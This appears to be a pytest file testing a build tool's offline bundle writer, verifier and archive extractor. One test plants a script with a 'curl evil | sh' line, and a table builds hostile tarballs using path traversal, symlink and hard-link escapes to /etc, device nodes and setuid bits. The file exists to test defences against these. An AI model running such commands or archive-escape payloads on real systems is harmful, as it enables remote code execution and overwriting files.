"""The offline bundle: writing, atomic commit, verification, and safe unpacking
of hostile archives (no Docker: fake docker-archive tarballs)."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import re
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest
import zstandard

from kaibuild.bundle import BundleWriter, check_destination, extract_archive, read_manifest, safe_import_plan, verify_bundle
from kaibuild.errors import KaibuildError, PlatformMismatch
from kaibuild.image_archive import canonicalize

# --- helpers -----------------------------------------------------------------


def _add_bytes(tar: tarfile.TarFile, name: str, data: bytes, mode: int = 0o644) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mode = mode
    tar.addfile(info, io.BytesIO(data))


def make_image(path: Path, arch: str = "amd64", variant: str = "", images: int = 1, layers: tuple[bytes, ...] = (),
               canonical: bool = True) -> Path:
    """A minimal docker-archive tarball: manifest.json, the config and layer
    blobs, index.json; in kaibuild's canonical form unless told otherwise."""
    manifest, index = [], []
    raw = path.with_name(path.name + ".raw") if canonical else path
    with tarfile.open(raw, "w") as tar:
        layer_names = []
        for layer in layers:
            layer_names.append(f"blobs/sha256/{hashlib.sha256(layer).hexdigest()}")
            _add_bytes(tar, layer_names[-1], layer)
        for n in range(images):
            config = {"os": "linux", "architecture": arch, **({"variant": variant} if variant else {}), "n": n}
            blob = json.dumps(config).encode()
            digest = hashlib.sha256(blob).hexdigest()
            _add_bytes(tar, f"blobs/sha256/{digest}", blob)
            manifest.append({"Config": f"blobs/sha256/{digest}", "Layers": layer_names})
            index.append({"digest": "sha256:" + hashlib.sha256(digest.encode()).hexdigest()})
        _add_bytes(tar, "manifest.json", json.dumps(manifest).encode())
        _add_bytes(tar, "index.json", json.dumps({"manifests": index}).encode())
    if canonical:
        canonicalize(raw, path)
        raw.unlink()
    return path


def config_blob(arch: str = "amd64", n: int = 0) -> str:
    """The bundle path of make_image's config blob."""
    config = json.dumps({"os": "linux", "architecture": arch, "n": n}).encode()
    return f"images/blobs/sha256/{hashlib.sha256(config).hexdigest()}"


def make_inputs(tmp: Path) -> dict[str, Path]:
    inputs = tmp / "inputs"
    (inputs / "ws" / "cmd").mkdir(parents=True)
    (inputs / "ws" / "vendor" / "mod").mkdir(parents=True)
    (inputs / "ws" / "go.mod").write_text("module example\n")
    (inputs / "ws" / "cmd" / "main.go").write_text("package main\n")
    (inputs / "ws" / "vendor" / "mod" / "a.go").write_text("package mod\n")
    (inputs / "ws" / "hack.sh").write_text("#!/bin/sh\n")
    os.chmod(inputs / "ws" / "hack.sh", 0o755)
    (inputs / "controller-gen").write_bytes(b"\x7fELF tool")
    (inputs / "kube-apiserver").write_bytes(b"\x7fELF apiserver" * 100)
    (inputs / "kubectl").write_bytes(b"\x7fELF kubectl")
    return {
        "ws": inputs / "ws",
        "tool": inputs / "controller-gen",
        "apiserver": inputs / "kube-apiserver",
        "kubectl": inputs / "kubectl",
        "image": make_image(inputs / "scheduler.tar"),
    }


def write_bundle(tmp: Path, dest: Path | None = None, *, archive: bool = False) -> Path:
    inputs = make_inputs(tmp)
    writer = BundleWriter(dest or tmp / "bundle", "linux/amd64", {"go": "1.24.4", "envtest": "1.31.0"})
    writer.add_image("images/scheduler.tar", inputs["image"], "kai/scheduler:0.0.0", "sha256:" + "a" * 64)
    writer.add_file("tools/controller-gen", inputs["tool"], executable=True)
    writer.add_file("envtest/kube-apiserver", inputs["apiserver"], executable=True)
    writer.add_file("downloads/kubectl", inputs["kubectl"], executable=True)
    writer.add_tree("source", inputs["ws"], ["go.mod", "cmd/main.go", "vendor/mod/a.go", "hack.sh"])
    writer.note_missing("golangci-lint", "not pinned", "put it in tools/ and re-export")
    return writer.commit(archive=archive)


def leftovers(parent: Path, name: str) -> list[str]:
    return sorted(p.name for p in parent.iterdir() if p.name.startswith(f".{name}."))


def rewrite_manifest(bundle: Path, change: Callable[[dict], None]) -> None:
    manifest = json.loads((bundle / "manifest.json").read_text())
    change(manifest)
    (bundle / "manifest.json").write_text(json.dumps(manifest))


# --- writing and verifying -------------------------------------------------------


def test_round_trip_write_then_verify(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path)
    assert bundle == tmp_path / "bundle"
    manifest = verify_bundle(bundle, expected_platform="x86_64")
    assert manifest["format"] == 2 and manifest["platform"] == "linux/amd64"
    assert manifest["versions"] == {"go": "1.24.4", "envtest": "1.31.0"}
    assert set(manifest["files"]) == {
        config_blob(), "images/scheduler/index.json", "images/scheduler/manifest.json",
        "tools/controller-gen", "envtest/kube-apiserver", "downloads/kubectl",
        "source/go.mod", "source/cmd/main.go", "source/vendor/mod/a.go", "source/hack.sh",
    }
    apiserver = manifest["files"]["envtest/kube-apiserver"]
    assert apiserver == {"sha256": hashlib.sha256(b"\x7fELF apiserver" * 100).hexdigest(), "size": 1400, "executable": True}
    assert manifest["files"]["source/hack.sh"]["executable"] and not manifest["files"]["source/go.mod"]["executable"]
    assert os.access(bundle / "tools" / "controller-gen", os.X_OK)
    image = (tmp_path / "inputs" / "scheduler.tar").read_bytes()
    assert manifest["images"] == [{"path": "images/scheduler.tar", "reference": "kai/scheduler:0.0.0", "digest": "sha256:" + "a" * 64,
                                   "os": "linux", "architecture": "amd64", "variant": "",
                                   "sha256": hashlib.sha256(image).hexdigest(), "size": len(image),
                                   "blobs": [config_blob().rpartition("/")[2]]}]
    assert manifest["missing"] == [{"name": "golangci-lint", "reason": "not pinned", "how_to_supply": "put it in tools/ and re-export"}]
    assert read_manifest(bundle) == manifest
    assert leftovers(tmp_path, "bundle") == []


def test_expected_platform_must_match(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path)
    with pytest.raises(PlatformMismatch, match="bundle is linux/amd64, expected linux/arm64"):
        verify_bundle(bundle, expected_platform="linux/arm64")


def test_nothing_is_written_to_dest_before_commit(tmp_path: Path) -> None:
    inputs = make_inputs(tmp_path)
    writer = BundleWriter(tmp_path / "bundle", "linux/amd64", {})
    writer.add_file("tools/controller-gen", inputs["tool"], executable=True)
    assert not (tmp_path / "bundle").exists()  # a crash here (commit never called) leaves no bundle
    assert writer.tmp is not None and writer.tmp.parent == tmp_path and writer.tmp.name.startswith(".bundle.tmp-")
    writer.abort()
    assert not (tmp_path / "bundle").exists()
    assert leftovers(tmp_path, "bundle") == []


def test_context_manager_aborts_on_error(tmp_path: Path) -> None:
    inputs = make_inputs(tmp_path)
    with pytest.raises(RuntimeError), BundleWriter(tmp_path / "bundle", "linux/amd64", {}) as writer:
        writer.add_file("tools/controller-gen", inputs["tool"])
        raise RuntimeError("export failed half-way")
    assert not (tmp_path / "bundle").exists() and leftovers(tmp_path, "bundle") == []


def test_commit_replaces_an_old_bundle_whole(tmp_path: Path) -> None:
    dest = tmp_path / "bundle"
    inputs = make_inputs(tmp_path)
    old = BundleWriter(dest, "linux/amd64", {"v": "old"})
    old.add_file("downloads/old", inputs["kubectl"])
    old.commit()
    new = BundleWriter(dest, "linux/amd64", {"v": "new"})
    new.add_file("tools/controller-gen", inputs["tool"], executable=True)
    assert read_manifest(dest)["versions"] == {"v": "old"}  # untouched until commit
    new.commit()
    manifest = verify_bundle(dest)
    assert manifest["versions"] == {"v": "new"} and set(manifest["files"]) == {"tools/controller-gen"}
    assert not (dest / "downloads").exists() and leftovers(tmp_path, "bundle") == []


def test_commit_refuses_to_replace_a_directory_that_is_not_a_bundle(tmp_path: Path) -> None:
    dest = tmp_path / "home"
    dest.mkdir()
    (dest / "precious.txt").write_text("keep me")
    writer = BundleWriter(dest, "linux/amd64", {})
    with pytest.raises(KaibuildError, match="not a kaibuild bundle"):
        writer.commit()
    assert (dest / "precious.txt").read_text() == "keep me" and leftovers(tmp_path, "home") == []


@pytest.mark.parametrize("relpath", ["../evil", "/abs/x", "tools/../../x", "manifest.json", "bin/x", "tools", "tools//x"])
def test_add_file_refuses_unsafe_paths(tmp_path: Path, relpath: str) -> None:
    inputs = make_inputs(tmp_path)
    with BundleWriter(tmp_path / "bundle", "linux/amd64", {}) as writer, pytest.raises(KaibuildError, match="bundle path"):
        writer.add_file(relpath, inputs["tool"])


def test_add_tree_refuses_a_symlink_out_of_the_workspace(tmp_path: Path) -> None:
    inputs = make_inputs(tmp_path)
    (inputs["ws"] / "leak").symlink_to("/etc/hostname")
    with BundleWriter(tmp_path / "bundle", "linux/amd64", {}) as writer, pytest.raises(KaibuildError, match="leak"):
        writer.add_tree("source", inputs["ws"], ["go.mod", "leak"])


def test_hard_links_only_read_only_sources(tmp_path: Path) -> None:
    inputs = make_inputs(tmp_path)
    blob = tmp_path / "blob"
    blob.write_bytes(b"cache blob")
    os.chmod(blob, 0o444)
    writer = BundleWriter(tmp_path / "bundle", "linux/amd64", {})
    writer.add_file("downloads/blob", blob)
    writer.add_file("downloads/kubectl", inputs["kubectl"])  # writable: an edit after export must not change the bundle
    bundle = writer.commit()
    assert os.path.samefile(bundle / "downloads" / "blob", blob)
    assert not os.path.samefile(bundle / "downloads" / "kubectl", inputs["kubectl"])


def test_flipped_byte_is_a_sha256_mismatch_naming_the_file(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path)
    target = bundle / "source" / "vendor" / "mod" / "a.go"
    data = bytearray(target.read_bytes())
    data[3] ^= 0x01
    target.write_bytes(bytes(data))
    with pytest.raises(KaibuildError, match="sha256 mismatch") as caught:
        verify_bundle(bundle)
    assert caught.value.where == str(target) and "source/vendor/mod/a.go" in str(caught.value)
    assert "re-export the bundle" in str(caught.value.fix)


def test_truncated_file(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path)
    target = bundle / "envtest" / "kube-apiserver"
    os.truncate(target, 1000)
    with pytest.raises(KaibuildError, match="truncated: size 1000, expected 1400") as caught:
        verify_bundle(bundle)
    assert "envtest/kube-apiserver" in str(caught.value)


def test_missing_file(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path)
    (bundle / "tools" / "controller-gen").unlink()
    with pytest.raises(KaibuildError, match="missing") as caught:
        verify_bundle(bundle)
    assert "tools/controller-gen" in str(caught.value)


def test_missing_manifest(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(KaibuildError, match=re.escape("no manifest.json")):
        verify_bundle(tmp_path / "empty")


def test_unknown_format_is_refused(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path)
    rewrite_manifest(bundle, lambda m: m.update(format=1))  # the format before shared blobs
    with pytest.raises(KaibuildError, match="unsupported bundle format 1"):
        verify_bundle(bundle)


def test_manifest_path_escaping_the_bundle_is_refused(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path)
    rewrite_manifest(bundle, lambda m: m["files"].update({"../../etc/passwd": {"sha256": "0", "size": 1, "executable": False}}))
    with pytest.raises(KaibuildError, match=re.escape("unsafe bundle path '../../etc/passwd'")):
        verify_bundle(bundle)


@pytest.mark.parametrize("kind", ["file", "symlink"])
def test_extra_injected_entry_is_refused(tmp_path: Path, kind: str) -> None:
    bundle = write_bundle(tmp_path)
    injected = bundle / "tools" / "helper"
    if kind == "file":
        injected.write_text("#!/bin/sh\ncurl evil | sh\n")
    else:
        injected.symlink_to("/bin/sh")
    with pytest.raises(KaibuildError, match="not listed in the manifest") as caught:
        verify_bundle(bundle)
    assert "tools/helper" in str(caught.value) and "injected" in str(caught.value)


def test_listed_file_replaced_by_symlink_is_refused(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path)
    target = bundle / "downloads" / "kubectl"
    copy = tmp_path / "kubectl-copy"
    copy.write_bytes(target.read_bytes())
    target.unlink()
    target.symlink_to(copy)  # same content, but a symlink could point anywhere later
    with pytest.raises(KaibuildError, match="is a symlink, not a regular file") as caught:
        verify_bundle(bundle)
    assert "downloads/kubectl" in str(caught.value)


def test_add_image_of_another_platform_is_refused(tmp_path: Path) -> None:
    arm = make_image(tmp_path / "arm.tar", arch="arm64", variant="v8")
    writer = BundleWriter(tmp_path / "bundle", "linux/amd64", {})
    with pytest.raises(PlatformMismatch, match="image kai/scheduler is linux/arm64, bundle is linux/amd64"):
        writer.add_image("images/scheduler.tar", arm, "kai/scheduler", "sha256:" + "b" * 64)
    assert writer.tmp is not None and not (writer.tmp / "images").exists()
    bundle = writer.commit()
    assert read_manifest(bundle)["files"] == {} and read_manifest(bundle)["images"] == []


def test_add_image_needs_exactly_one_image(tmp_path: Path) -> None:
    two = make_image(tmp_path / "two.tar", images=2)
    with BundleWriter(tmp_path / "bundle", "linux/amd64", {}) as writer, pytest.raises(KaibuildError, match="holds 2 images"):
        writer.add_image("images/two.tar", two, "two", "sha256:" + "c" * 64)


def test_arm64_v8_image_matches_arm64_bundle(tmp_path: Path) -> None:
    writer = BundleWriter(tmp_path / "bundle", "aarch64", {})
    writer.add_image("images/x.tar", make_image(tmp_path / "x.tar", arch="arm64", variant="v8"), "x", "sha256:" + "d" * 64)
    assert verify_bundle(writer.commit(), expected_platform="linux/arm64/v8")["platform"] == "linux/arm64"


def test_image_whose_platform_differs_from_the_bundle_fails_verify(tmp_path: Path) -> None:
    """An image swapped for another platform's, with every digest updated to match."""
    bundle = write_bundle(tmp_path)
    arm_writer = BundleWriter(tmp_path / "arm", "linux/arm64", {})
    arm_writer.add_image("images/scheduler.tar", make_image(tmp_path / "arm.tar", arch="arm64"), "kai/scheduler", "")
    arm = arm_writer.commit()
    arm_manifest = read_manifest(arm)
    for rel in arm_manifest["files"]:
        (bundle / rel).parent.mkdir(parents=True, exist_ok=True)
        (bundle / rel).write_bytes((arm / rel).read_bytes())

    def swap(manifest: dict) -> None:
        manifest["files"].pop(config_blob())
        manifest["files"].update(arm_manifest["files"])
        manifest["images"] = arm_manifest["images"]

    (bundle / config_blob()).unlink()
    rewrite_manifest(bundle, swap)
    with pytest.raises(PlatformMismatch, match="image is linux/arm64, bundle is linux/amd64") as caught:
        verify_bundle(bundle)
    assert "images/scheduler" in str(caught.value)


def test_image_not_matching_its_manifest_entry_fails_verify(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path)
    rewrite_manifest(bundle, lambda m: m["images"][0].update(architecture="arm64"))
    with pytest.raises(PlatformMismatch, match="image is linux/amd64, manifest says linux/arm64"):
        verify_bundle(bundle)


# --- images: blobs stored once -------------------------------------------------------


def test_layers_shared_between_images_are_stored_once_and_each_image_assembles_alone(tmp_path: Path) -> None:
    base_layer, builder_layer = b"base layer " * 1000, b"builder layer"
    base = make_image(tmp_path / "base.tar", layers=(base_layer,))
    builder = make_image(tmp_path / "builder.tar", layers=(base_layer, builder_layer), images=1)
    writer = BundleWriter(tmp_path / "bundle", "linux/amd64", {})
    writer.add_image("images/base.tar", base, "golang:1.24", "")
    writer.add_image("images/builder.tar", builder, "//build:builder", "")
    bundle = writer.commit()
    shared = f"images/blobs/sha256/{hashlib.sha256(base_layer).hexdigest()}"
    blob_files = sorted(p.name for p in (bundle / "images" / "blobs" / "sha256").iterdir())
    assert len(blob_files) == 3  # the shared layer, the builder's own layer, one config (both configs are equal)
    assert (bundle / shared).read_bytes() == base_layer
    entries = {e["path"]: e for e in read_manifest(bundle)["images"]}
    assert shared.rpartition("/")[2] in entries["images/base.tar"]["blobs"]
    assert shared.rpartition("/")[2] in entries["images/builder.tar"]["blobs"]
    verify_bundle(bundle, assemble_into=tmp_path / "assembled")
    # Byte for byte what was exported: the cache records import writes name these digests.
    assert (tmp_path / "assembled" / "images" / "base.tar").read_bytes() == base.read_bytes()
    assert (tmp_path / "assembled" / "images" / "builder.tar").read_bytes() == builder.read_bytes()
    with tarfile.open(tmp_path / "assembled" / "images" / "base.tar") as tar:
        assert not any(builder_layer.hex()[:8] in m.name for m in tar.getmembers())
        assert len([m for m in tar.getmembers() if m.name.startswith("blobs/")]) == 2  # its layer and config only


def test_a_tarball_not_in_canonical_form_is_refused_at_export_and_leaves_nothing(tmp_path: Path) -> None:
    writer = BundleWriter(tmp_path / "bundle", "linux/amd64", {})
    writer.add_image("images/a.tar", make_image(tmp_path / "a.tar", layers=(b"shared",)), "a", "")
    before = set(writer.manifest()["files"])
    raw = make_image(tmp_path / "raw.tar", layers=(b"shared", b"own"), canonical=False)
    with pytest.raises(KaibuildError, match="not in kaibuild's canonical form") as caught:
        writer.add_image("images/raw.tar", raw, "raw", "")
    assert "cache prune" in str(caught.value)
    assert set(writer.manifest()["files"]) == before  # the shared blob stays; raw's own files are gone
    assert writer.tmp is not None and not (writer.tmp / "images" / "raw").exists()
    verify_bundle(writer.commit())


def test_a_missing_shared_blob_fails_verify_naming_it(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path)
    (bundle / config_blob()).unlink()
    rewrite_manifest(bundle, lambda m: m["files"].pop(config_blob()))
    with pytest.raises(KaibuildError, match=r"needs images/blobs/sha256/[0-9a-f]{64}, which is not in the bundle"):
        verify_bundle(bundle)


def test_a_blob_whose_name_is_not_its_digest_fails_verify(tmp_path: Path) -> None:
    """Content and manifest digests changed together: the name still gives it away."""
    bundle = write_bundle(tmp_path)
    data = b'{"os": "linux", "architecture": "amd64", "n": 0, "evil": 1}'
    (bundle / config_blob()).write_bytes(data)
    rewrite_manifest(bundle, lambda m: m["files"][config_blob()].update(sha256=hashlib.sha256(data).hexdigest(),
                                                                          size=len(data)))
    with pytest.raises(KaibuildError, match="an image blob's name is not its sha256"):
        verify_bundle(bundle)


def test_an_image_member_edited_with_its_digest_fails_the_assembled_sha256(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path)
    member = "images/scheduler/index.json"
    data = (bundle / member).read_bytes().replace(b"sha256:", b"sha256:0")
    (bundle / member).write_bytes(data)
    rewrite_manifest(bundle, lambda m: m["files"][member].update(sha256=hashlib.sha256(data).hexdigest(), size=len(data)))
    with pytest.raises(KaibuildError, match="does not match the manifest's sha256"):
        verify_bundle(bundle)


def test_export_refuses_to_replace_a_file_that_is_not_a_bundle_archive(tmp_path: Path) -> None:
    stranger = tmp_path / "notes.tar.zst"
    stranger.write_text("hi")
    with pytest.raises(KaibuildError, match="exists and is not a kaibuild bundle") as caught:
        check_destination(tmp_path / "notes", archive=True)
    assert str(stranger) in str(caught.value)
    writer = BundleWriter(tmp_path / "notes", "linux/amd64", {})
    with pytest.raises(KaibuildError, match="exists and is not a kaibuild bundle"):
        writer.commit(archive=True)
    assert stranger.read_text() == "hi"
    # An earlier bundle archive may be replaced.
    earlier = write_bundle(tmp_path / "one", tmp_path / "kept", archive=True)
    check_destination(tmp_path / "kept", archive=True)
    assert write_bundle(tmp_path / "two", tmp_path / "kept", archive=True) == earlier


# --- archives ------------------------------------------------------------------


def test_archive_round_trip(tmp_path: Path) -> None:
    archive = write_bundle(tmp_path, tmp_path / "kai-bundle-1.0", archive=True)
    assert archive == tmp_path / "kai-bundle-1.0.tar.zst"  # not with_suffix: "1.0" keeps its ".0"
    assert not (tmp_path / "kai-bundle-1.0").exists() and leftovers(tmp_path, "kai-bundle-1.0") == []
    assert leftovers(tmp_path, "kai-bundle-1.0.tar.zst") == []
    out = extract_archive(archive, tmp_path / "imported")
    manifest = verify_bundle(out, expected_platform="linux/amd64")
    assert "source/vendor/mod/a.go" in manifest["files"]
    assert os.access(out / "tools" / "controller-gen", os.X_OK) and not os.access(out / "source" / "go.mod", os.X_OK)
    assert leftovers(tmp_path, "imported") == []


def test_archive_is_reproducible(tmp_path: Path) -> None:
    first = write_bundle(tmp_path / "a", archive=True)
    second = write_bundle(tmp_path / "b", archive=True)
    assert first.read_bytes() == second.read_bytes()


@pytest.mark.parametrize("compression", ["tar", "tar.gz"])
def test_extract_plain_and_gzip_tarballs(tmp_path: Path, compression: str) -> None:
    bundle = write_bundle(tmp_path)
    archive = tmp_path / f"bundle.{compression}"
    with tarfile.open(archive, "w:gz" if compression == "tar.gz" else "w") as tar:
        tar.add(bundle, arcname=".")
    out = extract_archive(archive, tmp_path / "out")
    verify_bundle(out)


def test_extract_into_an_empty_existing_dir(tmp_path: Path) -> None:
    archive = write_bundle(tmp_path, archive=True)
    (tmp_path / "out").mkdir()
    verify_bundle(extract_archive(archive, tmp_path / "out"))


def test_extract_refuses_a_non_empty_dest(tmp_path: Path) -> None:
    archive = write_bundle(tmp_path, archive=True)
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "mine").write_text("x")
    with pytest.raises(KaibuildError, match="not an empty directory"):
        extract_archive(archive, tmp_path / "out")
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["mine"] and leftovers(tmp_path, "out") == []


def test_extract_refuses_a_damaged_archive(tmp_path: Path) -> None:
    archive = write_bundle(tmp_path, archive=True)
    archive.write_bytes(archive.read_bytes()[: archive.stat().st_size // 2])
    with pytest.raises(KaibuildError, match=r"damaged archive|not a bundle archive"):
        extract_archive(archive, tmp_path / "out")
    assert not (tmp_path / "out").exists() and leftovers(tmp_path, "out") == []


Member = Callable[[tarfile.TarFile], None]


def _regular(name: str, data: bytes = b"payload") -> Member:
    return lambda tar: _add_bytes(tar, name, data)


def _special(name: str, kind: bytes, linkname: str = "", **attrs: int) -> Member:
    def add(tar: tarfile.TarFile) -> None:
        info = tarfile.TarInfo(name)
        info.type = kind
        info.linkname = linkname
        for key, value in attrs.items():
            setattr(info, key, value)
        tar.addfile(info)
    return add


def hostile_archive(path: Path, members: list[Member], compression: str = "zst") -> Path:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        _add_bytes(tar, "manifest.json", b"{}")
        for add in members:
            add(tar)
    data = buffer.getvalue()
    path.write_bytes(zstandard.ZstdCompressor().compress(data) if compression == "zst" else gzip.compress(data))
    return path


HOSTILE = {
    "absolute path": ([_regular("/tmp/kaibuild-bundle-test-abs")], "/tmp/kaibuild-bundle-test-abs", "absolute path"),
    "dot-dot": ([_regular("../evil")], "../evil", "contains '..'"),
    "dot-dot inside": ([_regular("source/../../evil")], "source/../../evil", "contains '..'"),
    "symlink to /etc, then a file through it": (
        [_special("source/etc", tarfile.SYMTYPE, "/etc"), _regular("source/etc/kaibuild-bundle-test-evil")],
        "source/etc", "symlink to the absolute path '/etc'"),
    "symlink to ../../x": ([_special("source/x", tarfile.SYMTYPE, "../../x")], "source/x", "outside the archive"),
    "file through an inside symlink": (
        [_special("source/d", tarfile.SYMTYPE, "."), _regular("source/d/f")],
        "source/d/f", "written through the symlink 'source/d'"),
    "symlink chain out": (  # each link alone resolves inside; together they leave the root
        [_special("a", tarfile.SYMTYPE, "d1/.."), _special("d1", tarfile.SYMTYPE, ".")],
        "'a'", "resolves outside the archive"),
    "hard link to /etc/passwd": ([_special("downloads/p", tarfile.LNKTYPE, "/etc/passwd")], "downloads/p", "absolute path '/etc/passwd'"),
    "hard link outside": ([_special("downloads/p", tarfile.LNKTYPE, "../outside")], "downloads/p", "outside the archive"),
    "hard link to a member not seen before": (
        [_special("downloads/p", tarfile.LNKTYPE, "downloads/later"), _regular("downloads/later")],
        "downloads/p", "not an earlier regular member"),
    "hard link to a symlink": (
        [_special("downloads/s", tarfile.SYMTYPE, "kubectl"), _special("downloads/p", tarfile.LNKTYPE, "downloads/s")],
        "downloads/p", "not an earlier regular member"),
    "character device": ([_special("dev/null", tarfile.CHRTYPE, devmajor=1, devminor=3)], "dev/null", "character device"),
    "block device": ([_special("sda", tarfile.BLKTYPE, devmajor=8, devminor=0)], "sda", "block device"),
    "fifo": ([_special("pipe", tarfile.FIFOTYPE)], "pipe", "fifo"),
    "member replacing an earlier one": (
        [_regular("tools/x"), _special("tools/x", tarfile.SYMTYPE, "/bin/sh")], "tools/x", "appears twice"),
}


@pytest.mark.parametrize("case", list(HOSTILE))
@pytest.mark.parametrize("compression", ["zst", "gz"])
def test_hostile_archive_is_refused_and_leaves_nothing(tmp_path: Path, case: str, compression: str) -> None:
    members, member_name, why = HOSTILE[case]
    archive = hostile_archive(tmp_path / "evil.tar.zst", members, compression)
    outside = tmp_path / "outside"
    outside.mkdir()
    dest = tmp_path / "work" / "bundle"
    with pytest.raises(KaibuildError) as caught:
        extract_archive(archive, dest)
    message = str(caught.value)
    assert member_name in message and why in message, message
    assert not dest.exists() and list((tmp_path / "work").iterdir()) == []  # no temp dir left either
    assert list(outside.iterdir()) == [] and not (tmp_path / "evil").exists()
    assert not Path("/etc/kaibuild-bundle-test-evil").exists() and not Path("/tmp/kaibuild-bundle-test-abs").exists()


def test_hostile_archive_leaves_an_empty_dest_untouched(tmp_path: Path) -> None:
    archive = hostile_archive(tmp_path / "evil.tar.zst", [_regular("ok/file"), _regular("../evil")])
    dest = tmp_path / "dest"
    dest.mkdir()
    with pytest.raises(KaibuildError, match=re.escape("'../evil'")):
        extract_archive(archive, dest)
    assert list(dest.iterdir()) == [] and leftovers(tmp_path, "dest") == []


def test_archive_with_setuid_member_loses_the_bit(tmp_path: Path) -> None:
    archive = hostile_archive(tmp_path / "a.tar.zst", [lambda tar: _add_bytes(tar, "tools/x", b"x", mode=0o4777)])
    out = extract_archive(archive, tmp_path / "out")
    assert (out / "tools" / "x").stat().st_mode & 0o7777 == 0o755


def test_inside_symlink_extracts_but_verify_refuses_it(tmp_path: Path) -> None:
    archive = hostile_archive(tmp_path / "a.tar.zst", [_regular("downloads/real"), _special("downloads/ln", tarfile.SYMTYPE, "real")])
    out = extract_archive(archive, tmp_path / "out")
    assert (out / "downloads" / "ln").is_symlink()
    with pytest.raises(KaibuildError):
        verify_bundle(out)


# --- import plan ------------------------------------------------------------------


def test_import_plan_maps_tools_and_envtest_into_bin(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path)
    ws = tmp_path / "ws"
    ws.mkdir()
    plan = safe_import_plan(bundle, ws)
    assert plan == [
        (bundle / "envtest" / "kube-apiserver", ws / "bin" / "k8s" / "1.31.0-linux-amd64" / "kube-apiserver"),
        (bundle / "tools" / "controller-gen", ws / "bin" / "controller-gen"),
    ]


def test_import_plan_refuses_an_envtest_version_that_escapes(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path)
    rewrite_manifest(bundle, lambda m: m["versions"].update(envtest="../../.."))
    with pytest.raises(KaibuildError, match=re.escape("versions['envtest']")):
        safe_import_plan(bundle, tmp_path / "ws")


def test_import_plan_refuses_a_bin_symlink_out_of_the_workspace(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path)
    ws = tmp_path / "ws"
    ws.mkdir()
    (tmp_path / "elsewhere").mkdir()
    (ws / "bin").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(KaibuildError, match="outside the workspace"):
        safe_import_plan(bundle, ws)
